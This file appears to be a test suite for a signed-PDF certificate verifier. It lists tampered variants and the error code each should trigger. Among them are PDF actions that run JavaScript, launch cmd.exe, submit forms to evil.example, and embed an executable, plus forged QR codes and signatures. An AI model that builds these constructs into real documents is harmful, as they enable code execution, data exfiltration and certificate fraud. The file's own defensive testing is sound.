import { deflateSync, inflateSync } from "node:zlib";
import { generateSigner } from "@openlading/jws";
import type { JsonObject } from "@openlading/core";
import { renderPrint } from "../../src/page/render.ts";
import { createQrText } from "../../src/qr/create.ts";
import { certificate, HOST, KIND } from "../check/fixture.ts";
import type { Attack, Honest } from "./attack.ts";
import { bytesOf, Forger, packed, stream } from "./forge.ts";

type Change = (f: Forger) => Readonly<Record<number, string>>;

/** Revision 0 is changed before the exporter and the authority sign: every signature is good. */
const signedAfter = (change: Change): Attack["make"] => {
  return async ({ print, world }: Honest) => {
    const f = new Forger(print);
    return world.signed(f.rebuild(change(f)));
  };
};
const inCatalog =
  (name: string, value: string): Change =>
  (f) => ({ [f.root]: f.withEntry(f.root, name, value) });
const onPage =
  (subtype: string, more: string): Change =>
  (f) => {
    const annots = f.entry(f.page, "Annots");
    const page = f.body(f.page).replace(annots, annots.replace("]", `${f.next} 0 R ]`));
    return { [f.page]: page, [f.next]: `<< /Type /Annot /Subtype /${subtype} /Rect [0 0 9 9] ${more} >>` };
  };

const policy = (name: string, code: Attack["code"], change: Change): Attack => {
  return { family: "prepared", name, step: 6, code, make: signedAfter(change) };
};

function attached(data: Uint8Array): Change {
  return (f) => ({
    [f.root]: f.body(f.root).replace(/\/Names \[/, `/Names [ (annex.pdf) ${f.next} 0 R`),
    [f.next]: `<< /Type /Filespec /F (annex.pdf) /UF (annex.pdf) /EF << /F ${f.next + 1} 0 R >> >>`,
    [f.next + 1]: packed(data, "/Type /EmbeddedFile"),
  });
}

const edited = (): JsonObject => {
  const [first, ...others] = certificate()["items"] as JsonObject[];
  return certificate({ items: [{ ...first, HSCode: "010121" }, ...others] });
};

/** Prepared before signing, or by one of the signers: only policy and meaning stand against it. */
export const PREPARED: readonly Attack[] = [
  policy("a script behind a link", "ERR_PDF_JAVASCRIPT", onPage("Link", "/A << /S /JavaScript /JS (app.alert) >>")),
  policy("a script under a name spelt otherwise", "ERR_PDF_JAVASCRIPT", onPage("Link", "/A << /S /J#61vaScript >>")),
  policy("an action on opening", "ERR_PDF_OPEN_ACTION", inCatalog("OpenAction", "[ 9 0 R /Fit ]")),
  policy("an action on printing", "ERR_PDF_OPEN_ACTION", inCatalog("AA", "<< /WP << /S /Named /N /Print >> >>")),
  policy("a program is started", "ERR_PDF_ACTION", onPage("Link", "/A << /S /Launch /F (cmd.exe) >>")),
  policy(
    "a link to another site",
    "ERR_PDF_ACTION",
    onPage("Link", "/A << /S /URI /URI (https://verify.chamber.example.evil.example/) >>"),
  ),
  policy("a form is sent away", "ERR_PDF_ACTION", onPage("Link", "/A << /S /SubmitForm /F (https://evil.example/) >>")),
  policy("a dynamic form", "ERR_PDF_XFA", (f) => {
    const form = f.find((names) => names.has("SigFlags"));
    return { [form]: f.withEntry(form, "XFA", "[]") };
  }),
  policy("layers", "ERR_PDF_OPTIONAL_CONTENT", inCatalog("OCProperties", "<< /OCGs [] /D << >> >>")),
  policy("media on the page", "ERR_PDF_RICH_MEDIA", onPage("RichMedia", "")),
  policy("a file pinned to the page", "ERR_PDF_RICH_MEDIA", onPage("FileAttachment", "")),
  policy("content from another file", "ERR_PDF_EXTERNAL", (f) => ({
    [f.page]: f.withEntry(f.page, "Thumb", `${f.next} 0 R`),
    [f.next]: stream("", "/F (other.pdf)"),
  })),
  policy("a portfolio", "ERR_PDF_ATTACHMENT", inCatalog("Collection", "<< >>")),
  policy("a PDF attached inside the PDF", "ERR_PDF_NESTED_PDF", attached(bytesOf("%PDF-1.7\n"))),
  policy("a file attached that no print has", "ERR_PDF_ATTACHMENT", attached(bytesOf("MZ"))),
  policy("hidden pages wait in the file", "ERR_PDF_UNUSED_OBJECT", (f) => ({
    [f.next]: "<< /Type /Page /MediaBox [0 0 595 842] >>",
  })),
  {
    family: "prepared",
    name: "the visible text is edited",
    step: 7,
    code: "ERR_PDF_PRINT_DIFFERS",
    make: signedAfter((f) => {
      const contents = Number(/^\d+/.exec(f.entry(f.page, "Contents"))?.[0] ?? 0);
      const old = f.file.object(contents)?.value;
      if (old?.kind !== "stream") throw new Error("no content");
      const content = new Uint8Array(
        Buffer.concat([inflateSync(f.file.raw(old)), bytesOf("\n1 g 60 500 300 80 re f\n")]),
      );
      return { [contents]: packed(content) };
    }),
  },
  {
    family: "prepared",
    name: "the same page, packed otherwise",
    step: 7,
    code: "ERR_PDF_PRINT_DIFFERS",
    make: signedAfter((f) => {
      const contents = Number(/^\d+/.exec(f.entry(f.page, "Contents"))?.[0] ?? 0);
      const old = f.file.object(contents)?.value;
      if (old?.kind !== "stream") throw new Error("no content");
      return {
        [contents]: stream(
          new Uint8Array(deflateSync(inflateSync(f.file.raw(old)), { level: 1 })),
          "/Filter /FlateDecode",
        ),
      };
    }),
  },
  {
    family: "prepared",
    name: "the font is exchanged",
    step: 7,
    code: "ERR_PDF_PRINT_DIFFERS",
    make: signedAfter((f) => {
      const file = Number(/\d+/.exec(f.entry(f.ofType("FontDescriptor"), "FontFile2"))?.[0] ?? 0);
      return { [file]: packed(new Uint8Array(500), "/Length1 500") };
    }),
  },
  {
    family: "meaning",
    name: "an HS code is edited in the data",
    step: 7,
    code: "ERR_PDF_DATA_CHECKSUM",
    make: async ({ world }) => {
      const { manifest, print } = await world.input();
      return world.signed(
        (await renderPrint({ kind: KIND, data: edited(), print, ...(manifest === undefined ? {} : { manifest }) }))
          .bytes,
      );
    },
  },
  {
    family: "meaning",
    name: "the data are signed by an unknown key",
    step: 7,
    code: "ERR_PDF_DATA_SIGNATURE",
    make: async ({ world }) => {
      const { World } = await import("../check/fixture.ts");
      const stranger = new World({
        pki: world.pki,
        roots: world.roots,
        seal: world.seal,
        issuer: await generateSigner("ES256"),
      });
      return world.signed(await stranger.print(edited()));
    },
  },
  {
    family: "meaning",
    name: "no proof of the data is attached",
    step: 7,
    code: "ERR_PDF_DATA_ABSENT",
    make: async ({ world }) => {
      const { print } = await world.input();
      return world.signed((await renderPrint({ kind: KIND, data: certificate(), print })).bytes);
    },
  },
  {
    family: "QR",
    name: "the code of another certificate",
    step: 7,
    code: "ERR_PDF_QR_OTHER",
    make: async ({ world }) => {
      const data = certificate({ documentNumber: "EX260000000002" });
      const qrText = await createQrText({ host: HOST, signer: world.issuer, documentKind: KIND, data });
      const input = await world.input();
      return world.signed((await renderPrint({ ...input, print: { ...input.print, qrText } })).bytes);
    },
  },
  {
    family: "QR",
    name: "a code signed by a stranger",
    step: 7,
    code: "ERR_PDF_QR_FORGED",
    make: async ({ world }) => {
      const input = await world.input();
      const signer = await generateSigner("ES256");
      const qrText = await createQrText({ host: HOST, signer, documentKind: KIND, data: input.data });
      return world.signed((await renderPrint({ ...input, print: { ...input.print, qrText } })).bytes);
    },
  },
  {
    family: "QR",
    name: "a code that leads to another host",
    step: 7,
    code: "ERR_PDF_QR_FORGED",
    make: async ({ world }) => {
      const input = await world.input();
      const qrText = await createQrText({
        host: "evil.example",
        signer: world.issuer,
        documentKind: KIND,
        data: input.data,
      });
      return world.signed((await renderPrint({ ...input, print: { ...input.print, qrText } })).bytes);
    },
  },
];
